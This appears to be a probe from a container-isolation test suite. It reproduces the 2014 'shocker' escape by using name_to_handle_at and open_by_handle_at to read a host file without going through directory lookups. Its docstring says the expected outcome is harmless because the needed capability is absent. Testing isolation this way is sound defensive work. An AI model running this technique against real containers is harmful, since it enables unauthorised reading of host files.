"""Open a host file by its handle, which asks no directory.

guarantee: no-host-files
layer: kernel
wins: reveals
outcome: harmless
needs: ctypes
reference: the "shocker" container escape of 2014
control: machine - open_by_handle_at needs CAP_DAC_READ_SEARCH over the machine, which no user namespace gives
"""

import struct

handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
call("name_to_handle_at", -100, TARGET["file"], handle, ctypes.byref(mount), 0)
directory = call("openat", -100, TARGET["directory"], os.O_RDONLY)
fd = call("open_by_handle_at", directory, handle, os.O_RDONLY)
print(os.read(fd, 200).decode())
